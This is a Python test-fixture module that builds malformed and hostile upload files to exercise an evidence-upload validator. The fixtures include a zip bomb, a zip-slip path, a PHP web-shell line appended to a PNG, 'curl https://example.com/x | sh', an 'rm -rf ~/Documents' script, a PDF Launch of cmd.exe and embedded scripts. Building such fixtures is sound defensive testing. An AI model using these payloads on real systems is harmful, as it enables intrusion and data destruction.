"""Generators of small bad (and a few good) evidence files, built by hand without ffmpeg or Pillow."""

from __future__ import annotations

import random
import struct
import zipfile
import zlib
from collections.abc import Iterable
from pathlib import Path
from typing import BinaryIO

from pypdf import PdfWriter

# An 8x8 red baseline JPEG (made once with ffmpeg, embedded so tests never need it).
TINY_JPEG = bytes.fromhex(
    "ffd8ffe000104a46494600010200000100010000fffe00104c61766335392e33372e31303000ffdb0043000804040404"
    "040505050505050606060606060606060606060607070708080807070706060707080808080909090808080809090a0a"
    "0a0c0c0b0b0e0e0e111114ffc4004c000101000000000000000000000000000000060101010000000000000000000000"
    "0000000607100100000000000000000000000000000000110100000000000000000000000000000000ffc00011080008"
    "000803012200021100031100ffda000c03010002110311003f008b00517f7fffd9"
)
# The classic 1x1 transparent GIF.
TINY_GIF = bytes.fromhex("47494638396101000100800000ffffff00000021f90401000000002c00000000010001000002024401003b")

BOMB_SIZE = 5 << 30  # what the zip bomb's big entry declares it unpacks to
TRUNCATED_MDAT_DECLARED = 1_000_000
TRUNCATED_MDAT_PRESENT = 1_000

_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/{part}" ContentType="{content_type}"/>'
    "</Types>"
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="{part}"/></Relationships>'
)
_DOCX_BODY = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>My lesson reflection.</w:t></w:r></w:p></w:body></w:document>"
)
_PPTX_BODY = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main">'
    "<p:sldIdLst/></p:presentation>"
)
_XLSX_BODY = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>'
)
_OOXML = {
    "docx": ("word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"),
    "pptx": (
        "ppt/presentation.xml",
        "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
    ),
    "xlsx": ("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
}
_OOXML_BODY = {"docx": _DOCX_BODY, "pptx": _PPTX_BODY, "xlsx": _XLSX_BODY}


# --------------------------------------------------------------------------- helpers


def _ooxml_parts(fmt: str) -> list[tuple[str, str]]:
    part, content_type = _OOXML[fmt]
    return [
        ("[Content_Types].xml", _CONTENT_TYPES.format(part=part, content_type=content_type)),
        ("_rels/.rels", _RELS.format(part=part)),
        (part, _OOXML_BODY[fmt]),
    ]


def _write_zip(path: Path, entries: Iterable[tuple[str, str | bytes]]) -> Path:
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries:
            archive.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), data)
    return path


def _crc32_of_zeros(count: int) -> int:
    """CRC-32 of ``count`` zero bytes in O(log count), by the method of zlib's crc32_combine.

    Feeding gigabytes of zeros to zlib.crc32 would take seconds; here the register is multiplied
    by x^(8*count) modulo the CRC polynomial instead (bit-reflected arithmetic, as in zlib).
    """
    poly = 0xEDB88320

    def multiply(a: int, b: int) -> int:
        product = 0
        bit = 1 << 31
        while a:
            if a & bit:
                product ^= b
                a ^= bit
            bit >>= 1
            b = (b >> 1) ^ poly if b & 1 else b >> 1
        return product

    power = 1 << 30  # x^1
    result = 1 << 31  # x^0
    exponent = 8 * count
    while exponent:
        if exponent & 1:
            result = multiply(power, result)
        power = multiply(power, power)
        exponent >>= 1
    return multiply(result, 0xFFFFFFFF) ^ 0xFFFFFFFF


def _deflated_zeros(size: int) -> tuple[list[tuple[bytes, int]], int]:
    """Raw-deflate ``size`` zero bytes with zlib at level 9, streamed in 4 MiB chunks.

    After a full flush the compressor starts afresh on a byte boundary, so every full chunk
    compresses to the same bytes: one chunk is compressed and its output repeated, which keeps
    generation fast and memory bounded however large ``size`` is.

    Returns:
        (piece, repeat count) pairs to write in order, and the total compressed size.
    """
    chunk = 4 << 20
    zeros = bytes(chunk)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    full, rest = divmod(size, chunk)
    pieces: list[tuple[bytes, int]] = []
    if full:
        block = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
        pieces.append((block, full))
    pieces.append((compressor.compress(bytes(rest)) + compressor.flush(), 1))
    return pieces, sum(len(piece) * count for piece, count in pieces)


class _RawZipWriter:
    """Writes zip entries whose headers say exactly what the test needs (zip64 sizes, flag bits)."""

    def __init__(self, fh: BinaryIO) -> None:
        self._fh = fh
        self._central: list[bytes] = []

    def add(self, name: str, data: bytes, *, flags: int = 0) -> None:
        compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
        payload = compressor.compress(data) + compressor.flush()
        self.add_raw(name, [(payload, 1)], crc=zlib.crc32(data), size=len(data), packed=len(payload), flags=flags)

    def add_raw(
        self, name: str, pieces: list[tuple[bytes, int]], *, crc: int, size: int, packed: int, flags: int = 0
    ) -> None:
        encoded = name.encode()
        offset = self._fh.tell()
        zip64 = size >= 0xFFFFFFFF or packed >= 0xFFFFFFFF
        extra = struct.pack("<HHQQ", 1, 16, size, packed) if zip64 else b""
        small_size, small_packed = (0xFFFFFFFF, 0xFFFFFFFF) if zip64 else (size, packed)
        version = 45 if zip64 else 20
        dos_time, dos_date = 0, (2024 - 1980) << 9 | 1 << 5 | 1
        # Fields shared by the local header and the central directory record, in the order both use.
        common = (version, flags, 8, dos_time, dos_date, crc, small_packed, small_size, len(encoded), len(extra))
        self._fh.write(struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", *common) + encoded + extra)
        for piece, count in pieces:
            for _ in range(count):
                self._fh.write(piece)
        central = struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", version, *common, 0, 0, 0, 0, offset)
        self._central.append(central + encoded + extra)

    def close(self) -> None:
        start = self._fh.tell()
        for record in self._central:
            self._fh.write(record)
        length = self._fh.tell() - start
        count = len(self._central)
        self._fh.write(struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, length, start, 0))


def _pdf(objects: list[bytes]) -> bytes:
    """Assemble a PDF with a correct cross-reference table; object 1 must be the catalog."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref_at)
    return bytes(out)


def _pdf_objects(*, catalog_extra: bytes = b"", page_extra: bytes = b"", extra: Iterable[bytes] = ()) -> list[bytes]:
    content = b"BT /F1 24 Tf 72 700 Td (My lesson reflection) Tj ET"
    return [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> " + page_extra + b">>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *extra,
    ]


def box(box_type: bytes, payload: bytes = b"", *, declared: int | None = None, large: bool = False) -> bytes:
    """Build an ISO-BMFF box; ``declared`` overrides the size field, ``large`` uses a 64-bit size."""
    if large:
        size = declared if declared is not None else 16 + len(payload)
        return struct.pack(">I4sQ", 1, box_type, size) + payload
    size = declared if declared is not None else 8 + len(payload)
    return struct.pack(">I4s", size, box_type) + payload


def _ftyp(major: bytes = b"isom", *compatible: bytes) -> bytes:
    return box(b"ftyp", major + struct.pack(">I", 512) + b"".join(compatible or (b"isom", b"iso2", b"mp41")))


def _moov() -> bytes:
    mvhd = box(b"mvhd", bytes(100))  # version 0 movie header, all zero but the right length
    return box(b"moov", mvhd)


def _png_chunk(chunk_type: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + chunk_type + data + struct.pack(">I", zlib.crc32(chunk_type + data))


def _tiny_png() -> bytes:
    header = struct.pack(">IIBBBBB", 1, 1, 8, 6, 0, 0, 0)  # 1x1, 8-bit RGBA
    pixels = zlib.compress(b"\x00\x33\x66\x99\xff")  # filter byte + one pixel
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", pixels) + _png_chunk(b"IEND", b"")


def _jpeg_with_thumbnail() -> bytes:
    """TINY_JPEG with an EXIF-style APP1 segment that holds a thumbnail (and so its own FFD9)."""
    exif = b"Exif\x00\x00MM\x00\x2a\x00\x00\x00\x08\x00\x00\x00\x00\x00\x00" + TINY_JPEG
    return TINY_JPEG[:2] + b"\xff\xe1" + struct.pack(">H", len(exif) + 2) + exif + TINY_JPEG[2:]


# --------------------------------------------------------------------------- generators


def zero_byte(folder: Path, name: str = "lesson.mp4") -> Path:
    """An empty upload (0 bytes)."""
    path = folder / name
    path.write_bytes(b"")
    return path


def random_bytes(folder: Path, name: str = "lesson.mp4", size: int = 4096) -> Path:
    """Seeded noise that matches no format."""
    path = folder / name
    path.write_bytes(random.Random(20240501).randbytes(size))
    return path


def zip_bomb_docx(folder: Path, name: str = "lesson-plan.docx", size: int = BOMB_SIZE) -> Path:
    """A docx-shaped zip whose extra part declares ``size`` (5 GiB) of zeros, in about 5 MB."""
    path = folder / name
    pieces, packed = _deflated_zeros(size)
    with path.open("wb") as fh:
        writer = _RawZipWriter(fh)
        for part, text in _ooxml_parts("docx"):
            writer.add(part, text.encode())
        writer.add_raw("word/media/image1.png", pieces, crc=_crc32_of_zeros(size), size=size, packed=packed)
        writer.close()
    return path


def zip_slip_docx(folder: Path, name: str = "lesson-plan.docx") -> Path:
    """A docx with an entry that climbs out of the extraction folder."""
    return _write_zip(folder / name, [*_ooxml_parts("docx"), ("../../evil.sh", "#!/bin/sh\necho owned\n")])


def clean_docx(folder: Path, name: str = "reflection.docx") -> Path:
    """A minimal valid Word document."""
    return _write_zip(folder / name, _ooxml_parts("docx"))


def clean_pptx(folder: Path, name: str = "slides.pptx") -> Path:
    """A minimal valid PowerPoint presentation."""
    return _write_zip(folder / name, _ooxml_parts("pptx"))


def clean_xlsx(folder: Path, name: str = "marks.xlsx") -> Path:
    """A minimal valid Excel workbook."""
    return _write_zip(folder / name, _ooxml_parts("xlsx"))


def clean_odt(folder: Path, name: str = "reflection.odt") -> Path:
    """A minimal OpenDocument text file: the ``mimetype`` entry comes first and is stored uncompressed."""
    path = folder / name
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text", compress_type=zipfile.ZIP_STORED)
        archive.writestr(
            "content.xml",
            '<?xml version="1.0" encoding="UTF-8"?><office:document-content '
            'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>',
            compress_type=zipfile.ZIP_DEFLATED,
        )
    return path


def macro_docx(folder: Path, name: str = "reflection.docx") -> Path:
    """A Word document carrying a VBA project (a .docm renamed .docx)."""
    return _write_zip(folder / name, [*_ooxml_parts("docx"), ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(60))])


def plain_zip_named_docx(folder: Path, name: str = "essay.docx") -> Path:
    """An ordinary zip of notes, renamed to .docx."""
    return _write_zip(folder / name, [("notes.txt", "some notes\n"), ("more/notes2.txt", "more notes\n")])


def encrypted_zip(folder: Path, name: str = "evidence.zip") -> Path:
    """A zip whose entry is marked as password-protected."""
    path = folder / name
    with path.open("wb") as fh:
        writer = _RawZipWriter(fh)
        writer.add("secret.txt", b"not really encrypted, but flagged as such", flags=0x1)
        writer.close()
    return path


def corrupt_zip(folder: Path, name: str = "evidence.zip") -> Path:
    """A zip's first bytes with no central directory (an upload cut short)."""
    full = (clean_docx(folder, "whole.docx")).read_bytes()
    path = folder / name
    path.write_bytes(full[: len(full) // 2])
    return path


def compressed_zeros_zip(folder: Path, name: str = "evidence.zip", size: int = 4 << 20) -> Path:
    """A small zip whose single entry is compressed about 1000:1 (over the ratio limit, under the size one)."""
    path = folder / name
    pieces, packed = _deflated_zeros(size)
    with path.open("wb") as fh:
        writer = _RawZipWriter(fh)
        writer.add_raw("zeros.bin", pieces, crc=_crc32_of_zeros(size), size=size, packed=packed)
        writer.close()
    return path


def many_entries_zip(folder: Path, name: str = "evidence.zip", count: int = 50) -> Path:
    """A zip with ``count`` tiny entries."""
    return _write_zip(folder / name, [(f"file{index}.txt", "x") for index in range(count)])


def clean_pdf(folder: Path, name: str = "reflection.pdf") -> Path:
    """A one-page PDF with a line of text."""
    path = folder / name
    path.write_bytes(_pdf(_pdf_objects()))
    return path


def pdf_with_javascript(folder: Path, name: str = "reflection.pdf") -> Path:
    """A PDF with a document-level script in the /Names /JavaScript tree."""
    path = folder / name
    objects = _pdf_objects(
        catalog_extra=b"/Names << /JavaScript << /Names [(init) 6 0 R] >> >> ",
        extra=[b"<< /S /JavaScript /JS (app.alert\\('hello'\\);) >>"],
    )
    path.write_bytes(_pdf(objects))
    return path


def pdf_with_open_action(folder: Path, name: str = "reflection.pdf") -> Path:
    """A PDF that opens a website as soon as it is opened."""
    path = folder / name
    path.write_bytes(_pdf(_pdf_objects(catalog_extra=b"/OpenAction << /S /URI /URI (https://example.com/) >> ")))
    return path


def pdf_with_launch(folder: Path, name: str = "reflection.pdf") -> Path:
    """A PDF with a link that launches a program."""
    path = folder / name
    objects = _pdf_objects(
        page_extra=b"/Annots [6 0 R] ",
        extra=[b"<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] /A << /S /Launch /F (cmd.exe) >> >>"],
    )
    path.write_bytes(_pdf(objects))
    return path


def pdf_with_hidden_javascript(folder: Path, name: str = "reflection.pdf") -> Path:
    """A PDF holding a script object nothing refers to, its names disguised with #xx escapes."""
    path = folder / name
    objects = _pdf_objects(extra=[b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"])
    path.write_bytes(_pdf(objects))
    return path


def pdf_with_goto_open_action(folder: Path, name: str = "reflection.pdf") -> Path:
    """A PDF that opens on its first page via a /GoTo action (harmless navigation)."""
    path = folder / name
    path.write_bytes(_pdf(_pdf_objects(catalog_extra=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >> ")))
    return path


def pdf_with_stream_action(folder: Path, name: str = "reflection.pdf", size: int = 1 << 20) -> Path:
    """A PDF whose opening action is a stream of ``size`` bytes: reading the action reads them all."""
    path = folder / name
    data = b"x" * size
    stream = b"<< /Length %d >>\nstream\n%s\nendstream" % (len(data), data)
    path.write_bytes(_pdf(_pdf_objects(catalog_extra=b"/OpenAction 6 0 R ", extra=[stream])))
    return path


def encrypted_pdf(folder: Path, name: str = "reflection.pdf", password: str = "secret") -> Path:
    """A PDF that needs a password to open."""
    path = folder / name
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.encrypt(user_password=password, owner_password="owner-" + password, algorithm="AES-128")
    with path.open("wb") as fh:
        writer.write(fh)
    return path


def permissions_only_pdf(folder: Path, name: str = "reflection.pdf") -> Path:
    """A PDF encrypted with an empty user password: it opens for anyone (only printing etc. is restricted)."""
    return encrypted_pdf(folder, name, password="")


def corrupt_pdf(folder: Path, name: str = "reflection.pdf") -> Path:
    """A PDF header followed by garbage."""
    path = folder / name
    path.write_bytes(b"%PDF-1.7\n" + random.Random(7).randbytes(2048))
    return path


def clean_jpeg(folder: Path, name: str = "photo.jpg") -> Path:
    """A valid JPEG whose EXIF-style segment holds a thumbnail (so it contains two FFD9 markers)."""
    path = folder / name
    path.write_bytes(_jpeg_with_thumbnail())
    return path


def jpeg_with_zip_appended(folder: Path, name: str = "photo.jpg") -> Path:
    """A JPEG with a zip archive glued to its end (a polyglot that opens as both)."""
    archive = _write_zip(folder / "payload.zip", [("payload.txt", "hidden\n")])
    path = folder / name
    path.write_bytes(_jpeg_with_thumbnail() + archive.read_bytes())
    archive.unlink()
    return path


def jpeg_with_padding(folder: Path, name: str = "photo.jpg") -> Path:
    """A JPEG followed by zero padding, as some cameras write."""
    path = folder / name
    path.write_bytes(TINY_JPEG + bytes(512))
    return path


def truncated_jpeg(folder: Path, name: str = "photo.jpg") -> Path:
    """A JPEG cut off inside its compressed data."""
    path = folder / name
    path.write_bytes(TINY_JPEG[:-6])
    return path


def clean_png(folder: Path, name: str = "photo.png") -> Path:
    """A valid 1x1 PNG."""
    path = folder / name
    path.write_bytes(_tiny_png())
    return path


def png_with_appended_data(folder: Path, name: str = "photo.png") -> Path:
    """A PNG followed by text after its IEND chunk."""
    path = folder / name
    path.write_bytes(_tiny_png() + b"<?php system($_GET['c']); ?>\n")
    return path


def truncated_png(folder: Path, name: str = "photo.png") -> Path:
    """A PNG without its IEND chunk."""
    path = folder / name
    path.write_bytes(_tiny_png()[:-12])
    return path


def clean_gif(folder: Path, name: str = "animation.gif") -> Path:
    """A valid 1x1 GIF."""
    path = folder / name
    path.write_bytes(TINY_GIF)
    return path


def gif_with_appended_data(folder: Path, name: str = "animation.gif") -> Path:
    """A GIF with bytes after its 0x3B trailer."""
    path = folder / name
    path.write_bytes(TINY_GIF + b"extra bytes after the trailer")
    return path


def svg_named_png(folder: Path, name: str = "diagram.png") -> Path:
    """An SVG drawing (which can carry scripts) renamed to .png."""
    path = folder / name
    path.write_text(
        '<?xml version="1.0" encoding="UTF-8"?>\n<!-- drawn by hand -->\n'
        '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        '<script>alert("hi")</script><rect width="10" height="10"/></svg>\n',
        encoding="utf-8",
    )
    return path


def hls_playlist(folder: Path, name: str = "lesson.mp4") -> Path:
    """An HLS playlist (links to video segments elsewhere) renamed to .mp4."""
    path = folder / name
    path.write_text(
        "#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:10\n#EXTINF:10.0,\n"
        "https://example.com/segment0.ts\n#EXT-X-ENDLIST\n",
        encoding="utf-8",
    )
    return path


def elf_named_pdf(folder: Path, name: str = "report.pdf") -> Path:
    """A (never run) 64-bit Linux executable header renamed to .pdf."""
    path = folder / name
    ident = b"\x7fELF\x02\x01\x01" + bytes(9)
    header = ident + struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x400078, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    program = struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 0x80, 0x80, 0x1000)
    path.write_bytes(header + program + b"\xb8\x3c\x00\x00\x00\x31\xff\x0f\x05")  # exit(0)
    return path


def html_named_pdf(folder: Path, name: str = "report.pdf") -> Path:
    """A web page renamed to .pdf."""
    path = folder / name
    path.write_text(
        "<!DOCTYPE html>\n<html><head><title>Report</title></head>"
        "<body><script>document.location='https://example.com'</script></body></html>\n",
        encoding="utf-8",
    )
    return path


def plain_text(folder: Path, name: str = "reflection.txt") -> Path:
    """An ordinary plain text reflection (UTF-8, with accents)."""
    path = folder / name
    path.write_text("My reflection on the lesson.\n\nThe students' résumés improved.\n", encoding="utf-8")
    return path


def shell_script_named_txt(folder: Path, name: str = "reflection.txt") -> Path:
    """A shell script renamed to .txt."""
    path = folder / name
    path.write_text("#!/bin/sh\ncurl https://example.com/x | sh\n", encoding="utf-8")
    return path


def clean_mp4_boxes(folder: Path, name: str = "lesson.mp4") -> Path:
    """ftyp + moov + a complete mdat with a 64-bit size: box-level clean (not playable media)."""
    path = folder / name
    path.write_bytes(_ftyp() + _moov() + box(b"mdat", bytes(2000), large=True))
    return path


def truncated_mp4_boxes(folder: Path, name: str = "lesson.mp4") -> Path:
    """A faststart MP4 (moov first) whose mdat declares far more bytes than arrived."""
    path = folder / name
    mdat = box(b"mdat", bytes(TRUNCATED_MDAT_PRESENT), declared=8 + TRUNCATED_MDAT_DECLARED)
    path.write_bytes(_ftyp() + _moov() + mdat)
    return path


def mp4_without_moov(folder: Path, name: str = "lesson.mp4") -> Path:
    """A recording that was never finalised: ftyp and media data but no moov index."""
    path = folder / name
    path.write_bytes(_ftyp() + box(b"free") + box(b"mdat", bytes(2000), declared=0))
    return path


def iso_media(folder: Path, name: str, major: bytes, *compatible: bytes) -> Path:
    """A box-level clean ISO media file with the given ftyp brands."""
    path = folder / name
    path.write_bytes(_ftyp(major, *compatible) + _moov() + box(b"mdat", bytes(64)))
    return path


# --------------------------------------------------------------------------- hostile input (issue 10)


def png_declaring(folder: Path, width: int, height: int, name: str = "board.png") -> Path:
    """A tiny, complete PNG whose header declares ``width`` x ``height`` pixels (a decompression bomb's header)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    path = folder / name
    path.write_bytes(
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + _png_chunk(b"IEND", b"")
    )
    return path


def jpeg_declaring(folder: Path, width: int, height: int, name: str = "board.jpg") -> Path:
    """TINY_JPEG with its frame header (SOF0) changed to declare ``width`` x ``height`` pixels."""
    data = bytearray(TINY_JPEG)
    sof = data.index(b"\xff\xc0")
    struct.pack_into(">HH", data, sof + 5, height, width)  # length (2), precision (1), then height, width
    path = folder / name
    path.write_bytes(bytes(data))
    return path


def gif_declaring(folder: Path, width: int, height: int, name: str = "board.gif") -> Path:
    """TINY_GIF with its logical screen and image declaring ``width`` x ``height`` pixels."""
    data = bytearray(TINY_GIF)
    struct.pack_into("<HH", data, 6, width, height)
    image = data.index(b",")
    struct.pack_into("<HH", data, image + 5, width, height)
    path = folder / name
    path.write_bytes(bytes(data))
    return path


def webp_declaring(folder: Path, width: int, height: int, name: str = "board.webp") -> Path:
    """An extended (VP8X) WebP header declaring a ``width`` x ``height`` canvas, with a lossless frame."""
    vp8x = b"\x00\x00\x00\x00" + (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    bits = (min(width, 16384) - 1) | (min(height, 16384) - 1) << 14
    vp8l = b"\x2f" + struct.pack("<I", bits) + bytes(8)
    chunks = b"VP8X" + struct.pack("<I", len(vp8x)) + vp8x + b"VP8L" + struct.pack("<I", len(vp8l)) + vp8l
    path = folder / name
    path.write_bytes(b"RIFF" + struct.pack("<I", 4 + len(chunks)) + b"WEBP" + chunks)
    return path


def pe_named_pdf(folder: Path, name: str = "report.pdf") -> Path:
    """A (never run) Windows PE header renamed to .pdf."""
    stub = bytearray(b"MZ" + bytes(0x3A) + struct.pack("<I", 0x40))
    path = folder / name
    path.write_bytes(bytes(stub) + b"PE\x00\x00" + struct.pack("<HH", 0x8664, 0) + bytes(240))
    return path


def macho_named_docx(folder: Path, name: str = "plan.docx") -> Path:
    """A (never run) 64-bit Mach-O header renamed to .docx."""
    path = folder / name
    path.write_bytes(b"\xcf\xfa\xed\xfe" + struct.pack("<IIIIII", 0x01000007, 3, 2, 0, 0, 0) + bytes(200))
    return path


def script_named_pdf(folder: Path, name: str = "report.pdf") -> Path:
    """A shell script with a shebang, renamed to .pdf."""
    path = folder / name
    path.write_bytes(b"#!/usr/bin/env bash\nrm -rf ~/Documents\n")
    return path


def jar_named_docx(folder: Path, name: str = "plan.docx") -> Path:
    """A Java program (a zip with a manifest and a class file), renamed to .docx."""
    return _write_zip(
        folder / name,
        [("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nMain-Class: Run\n"), ("Run.class", b"\xca\xfe\xba\xbe")],
    )


def apk_named_docx(folder: Path, name: str = "plan.docx") -> Path:
    """An Android app (a zip with a manifest and Dalvik code), renamed to .docx."""
    return _write_zip(folder / name, [("AndroidManifest.xml", b"\x03\x00\x08\x00"), ("classes.dex", b"dex\n035\x00")])


def rar_named_pdf(folder: Path, name: str = "report.pdf") -> Path:
    """The start of a RAR 5 archive, renamed to .pdf."""
    path = folder / name
    path.write_bytes(b"Rar!\x1a\x07\x01\x00" + bytes(200))
    return path
